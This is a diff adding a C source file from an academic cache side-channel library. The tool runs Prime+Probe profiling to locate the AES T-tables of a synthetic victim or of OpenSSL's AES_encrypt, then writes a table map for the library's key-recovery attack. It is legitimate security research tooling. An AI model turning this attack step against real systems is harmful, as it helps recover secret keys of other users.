@@ -0,0 +1,371 @@
+/*
+ * This file is part of the CacheSC library (https://github.com/Miro-H/CacheSC),
+ * which implements Prime+Probe attacks on virtually and physically indexed
+ * caches.
+ *
+ * Copyright (C) 2020  Miro Haller
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ *
+ * Contact: miro.haller@alumni.ethz.ch
+ *
+ *
+ * Short description of this file:
+ * This tool locates the T-tables of an AES victim by cache profiling: it runs
+ * the victim with random plaintexts, correlates the activity of every set with
+ * the plaintext bytes and writes the cache sets of the table blocks to a map
+ * that the AES attack engine loads (see table_discovery.h and aes_attack.h).
+ * By default, the victim is the synthetic T-table AES of leaky_victim.h and
+ * the result is compared to the true table locations, as a self-test. With a
+ * shared object, the victim is its AES_encrypt (or a function with the same
+ * signature). If the address range of its tables is known, from a symbol or
+ * from offsets to the base of the shared object, the discovered sets are
+ * checked against the sets of this range.
+ */
+
+#ifndef _GNU_SOURCE
+    #define _GNU_SOURCE
+#endif
+
+#include <dlfcn.h>
+#include <link.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <cachesc.h>
+
+
+/*
+ * Configure profiling
+ */
+
+// Pin process to a CPU. To reduce noise, this CPU can be isolated.
+#define CPU_NUMBER 1
+
+// Cache line offset of the T-tables from a page (synthetic victim)
+#define VICTIM_LINE_OFFSET 0
+
+// Functions of the shared object, OpenSSL's low-level AES interface
+#define LIB_ENCRYPT_FN "AES_encrypt"
+#define LIB_SET_KEY_FN "AES_set_encrypt_key"
+// Upper bound of the size of the key schedule (AES_KEY)
+#define LIB_KEY_SCHED_LEN 256
+
+typedef struct lib_victim lib_victim;
+
+struct lib_victim {
+    void *handle;
+    void (*encrypt)(const uint8_t *in, uint8_t *out, const void *key_sched);
+    uint8_t *key_sched;
+    // Load address of the shared object
+    uint8_t *base;
+};
+
+// local functions
+void usage(const char *prog);
+int prepare_lib_victim(lib_victim *lv, const char *path, const char *fn,
+    const uint8_t *key);
+int get_table_range(lib_victim *lv, const char *sym, const char *range,
+    uint8_t **start, uint64_t *size);
+uint32_t count_blocks_in_range(cache_ctx *ctx, aes_ttable_map *map,
+    uint8_t *start, uint64_t size);
+
+int main(int argc, char **argv) {
+    int opt;
+    cache_level target_cache;
+    uint32_t i, t, n, correct;
+    uint32_t samples = TABLE_DISCOVERY_SAMPLES;
+    char *lib_path = NULL, *lib_fn = LIB_ENCRYPT_FN;
+    char *table_sym = NULL, *table_range = NULL;
+    leaky_victim *v = NULL;
+    lib_victim lv;
+
+    while ((opt = getopt(argc, argv, "l:f:t:r:")) != -1) {
+        switch (opt) {
+            case 'l':
+                lib_path = optarg;
+                break;
+            case 'f':
+                lib_fn = optarg;
+                break;
+            case 't':
+                table_sym = optarg;
+                break;
+            case 'r':
+                table_range = optarg;
+                break;
+            default:
+                usage(argv[0]);
+        }
+    }
+    if (argc - optind < 2 || argc - optind > 3
+        || (!lib_path && (table_sym || table_range)) || (table_sym && table_range))
+    {
+        usage(argv[0]);
+    }
+
+    if (!strcmp(argv[optind], "L1"))
+        target_cache = L1;
+    else if (!strcmp(argv[optind], "L2"))
+        target_cache = L2;
+    else
+        usage(argv[0]);
+
+    if (argc - optind == 3)
+        samples = atoi(argv[optind + 2]);
+    if (samples == 0)
+        usage(argv[0]);
+
+    PRINT_LINE("Discover %s T-table sets of %s with %u samples\n", argv[optind],
+               lib_path ? lib_fn : "the synthetic victim", samples);
+
+    set_seed();
+
+    cache_ctx *ctx      = get_cache_ctx(target_cache);
+    cacheline *cache_ds = prepare_cache_ds(ctx);
+
+    time_type *res = (time_type *) calloc(ctx->sets, sizeof(time_type));
+    assert(res);
+
+    // Victim with a random, unknown key
+    uint8_t key[AES_KEY_LEN], pt[AES_KEY_LEN], ct[AES_KEY_LEN];
+    gen_rand_bytes(key, AES_KEY_LEN);
+
+    if (lib_path) {
+        if (prepare_lib_victim(&lv, lib_path, lib_fn, key)) {
+            fprintf(stderr, "Cannot load %s and %s from %s: %s\n", lib_fn,
+                    LIB_SET_KEY_FN, lib_path, dlerror());
+            return EXIT_FAILURE;
+        }
+    }
+    else {
+        v = prepare_leaky_victim(LEAKY_AES_TTABLE, 0, VICTIM_LINE_OFFSET);
+        assert(v);
+        set_leaky_victim_secret(v, key);
+    }
+
+    table_profile *prof = prepare_table_profile(ctx, AES_KEY_LEN);
+
+    pin_to_cpu(CPU_NUMBER);
+
+    // Forward prime for L1, reverse prime for L2
+    pp_conf conf;
+    get_default_pp_conf(ctx, &conf);
+
+    cacheline *curr_head = cache_ds;
+    cacheline *next_head;
+
+
+    /*
+     * Profile the victim
+     */
+    print_banner("Start profiling");
+
+    prepare_measurement();
+
+    for (i = 0; i < samples; ++i) {
+        gen_rand_bytes(pt, AES_KEY_LEN);
+
+        curr_head = prime_conf(&conf, curr_head);
+        if (lib_path)
+            lv.encrypt(pt, ct, lv.key_sched);
+        else
+            run_leaky_victim(v, pt, ct);
+        next_head = probe_conf(&conf, target_cache, curr_head);
+
+        get_msrmts_for_all_set(curr_head, res);
+        curr_head = next_head;
+
+        update_table_profile(prof, pt, res);
+    }
+
+    print_banner("Stop profiling");
+
+
+    /*
+     * Locate the tables and compare to the ground truth, if known
+     */
+    aes_ttable_map map, true_map;
+    discovered_table tables[AES_TTABLES];
+    void *true_tables[AES_TTABLES];
+    uint8_t *range_start;
+    uint64_t range_size;
+
+    discover_aes_ttables(prof, &map, tables);
+
+    for (t = 0; t < AES_TTABLES; ++t) {
+        PRINT_LINE("Te%u:\n", t);
+        print_discovered_table(tables + t);
+    }
+
+    int ret = EXIT_SUCCESS;
+    if (!lib_path) {
+        for (t = 0; t < AES_TTABLES; ++t)
+            true_tables[t] = get_leaky_aes_table(v, t);
+        get_aes_ttable_map(ctx, true_tables, &true_map);
+
+        correct = 0;
+        for (t = 0; t < AES_TTABLES; ++t) {
+            for (n = 0; n < AES_TTABLE_BLOCKS; ++n)
+                correct += map.sets[t][n] == true_map.sets[t][n];
+        }
+        PRINT_LINE("Correct block sets: %u/%u\n", correct,
+                   AES_TTABLES * AES_TTABLE_BLOCKS);
+    }
+    else if (table_sym || table_range) {
+        if (get_table_range(&lv, table_sym, table_range, &range_start,
+                            &range_size))
+        {
+            fprintf(stderr, "Invalid table range %s\n",
+                    table_sym ? table_sym : table_range);
+            ret = EXIT_FAILURE;
+        }
+        else {
+            PRINT_LINE("Block sets within the tables at %p (%lu bytes): %u/%u\n",
+                       range_start, range_size,
+                       count_blocks_in_range(ctx, &map, range_start, range_size),
+                       AES_TTABLES * AES_TTABLE_BLOCKS);
+        }
+    }
+
+    if (save_aes_ttable_map(argv[optind + 1], ctx, &map)) {
+        fprintf(stderr, "Failed to write table map to %s\n", argv[optind + 1]);
+        ret = EXIT_FAILURE;
+    }
+    else {
+        PRINT_LINE("Table map written to %s\n", argv[optind + 1]);
+    }
+
+
+    /*
+     * Cleanup
+     */
+    release_table_profile(prof);
+    if (lib_path) {
+        free(lv.key_sched);
+        dlclose(lv.handle);
+    }
+    else {
+        release_leaky_victim(v);
+    }
+    free(res);
+    release_cache_ds(ctx, cache_ds);
+    release_cache_ctx(ctx);
+
+    return ret;
+}
+
+void usage(const char *prog) {
+    fprintf(stderr, "Usage: %s [-l <shared object> [-f <function>] "
+                    "[-t <symbol> | -r <start>-<end>]] <L1|L2> <table map> "
+                    "[samples]\n", prog);
+    exit(EXIT_FAILURE);
+}
+
+/*
+ * Load the encryption function `fn` of the shared object at `path` and
+ * expand `key` with its AES_set_encrypt_key. Returns 0 on success.
+ */
+int prepare_lib_victim(lib_victim *lv, const char *path, const char *fn,
+    const uint8_t *key)
+{
+    Dl_info info;
+    int (*set_key)(const uint8_t *key, int bits, void *key_sched);
+
+    lv->handle = dlopen(path, RTLD_NOW);
+    if (!lv->handle)
+        return 1;
+
+    *(void **) &lv->encrypt = dlsym(lv->handle, fn);
+    *(void **) &set_key     = dlsym(lv->handle, LIB_SET_KEY_FN);
+    if (!lv->encrypt || !set_key || !dladdr(*(void **) &lv->encrypt, &info)) {
+        dlclose(lv->handle);
+        return 1;
+    }
+    lv->base = (uint8_t *) info.dli_fbase;
+
+    lv->key_sched = (uint8_t *) aligned_alloc(CACHELINE_SIZE, LIB_KEY_SCHED_LEN);
+    assert(lv->key_sched);
+    if (set_key(key, AES_KEY_LEN * 8, lv->key_sched)) {
+        free(lv->key_sched);
+        dlclose(lv->handle);
+        return 1;
+    }
+
+    return 0;
+}
+
+/*
+ * Address range of the tables in the shared object, either of the symbol
+ * `sym` (with its size from the symbol table) or given as `range`, i.e.
+ * offsets <start>-<end> to the base of the shared object (e.g. from nm).
+ * Returns 0 on success.
+ */
+int get_table_range(lib_victim *lv, const char *sym, const char *range,
+    uint8_t **start, uint64_t *size)
+{
+    Dl_info info;
+    ElfW(Sym) *elf_sym;
+    uint64_t first, last;
+    char *end;
+
+    if (sym) {
+        *start = (uint8_t *) dlsym(lv->handle, sym);
+        if (!*start || !dladdr1(*start, &info, (void **) &elf_sym, RTLD_DL_SYMENT)
+            || !elf_sym)
+        {
+            return 1;
+        }
+        *size = elf_sym->st_size;
+    }
+    else {
+        first = strtoull(range, &end, 0);
+        if (*end != '-')
+            return 1;
+        last = strtoull(end + 1, &end, 0);
+        if (*end || last <= first)
+            return 1;
+
+        *start  = lv->base + first;
+        *size   = last - first;
+    }
+
+    return *size == 0;
+}
+
+/*
+ * Number of discovered block sets that are among the sets of the range
+ */
+uint32_t count_blocks_in_range(cache_ctx *ctx, aes_ttable_map *map,
+    uint8_t *start, uint64_t size)
+{
+    uint32_t t, n, cnt = 0;
+    uint64_t off;
+    bool *in_range = (bool *) calloc(ctx->sets, sizeof(bool));
+    assert(in_range);
+
+    for (off = 0; off < size; off += CACHELINE_SIZE)
+        in_range[get_cache_set(ctx, start + off)] = true;
+    in_range[get_cache_set(ctx, start + size - 1)] = true;
+
+    for (t = 0; t < AES_TTABLES; ++t) {
+        for (n = 0; n < AES_TTABLE_BLOCKS; ++n)
+            cnt += in_range[map->sets[t][n]];
+    }
+
+    free(in_range);
+
+    return cnt;
+}